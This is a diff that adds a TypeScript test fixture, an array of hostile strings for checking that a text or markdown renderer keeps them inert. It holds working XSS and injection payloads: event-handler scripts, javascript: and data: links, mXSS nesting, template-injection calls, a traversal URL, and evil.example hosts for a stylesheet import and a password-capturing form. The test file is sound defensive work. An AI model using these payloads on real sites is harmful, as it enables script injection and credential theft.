@@ -1,0 +1,21 @@
+/** Texts that would run a script, load something or leave their place, if one of them were ever taken for more than a text. */
+export const hostile: readonly string[] = [
+  '<img src=x onerror=window.ran("img")><script>window.ran("script")</script>',
+  '"><svg onload=window.ran("svg")><a href="javascript:window.ran(1)">evil</a>',
+  '[click](javascript:window.ran("link"))',
+  '[click](JaVaScRiPt&#58;window.ran("entity"))',
+  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '![evil](https://evil.example/x.png "onerror=window.ran(2)")',
+  '![evil](/api/attachments/../me)',
+  '![evil](javascript:window.ran("image"))',
+  '<iframe srcdoc="<script>parent.ran(3)</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.ran("mxss")>',
+  '<style>@import url(https://evil.example/x.css)</style><base href="https://evil.example/">',
+  '<form action="https://evil.example/"><input name=password autofocus onfocus=window.ran("focus")></form>',
+  '[x]: javascript:window.ran("reference)\n\n[x]',
+  '<javascript:window.ran("autolink")>',
+  '@mia" onmouseover="window.ran(4)',
+  '`<script>window.ran("code")</script>`',
+  '{{constructor.constructor("window.ran(5)")()}} ${window.ran(6)}',
+  '\u202e\u0000<script\u0000>window.ran(7)</script>'.replaceAll('\u0000', ' '),
+]
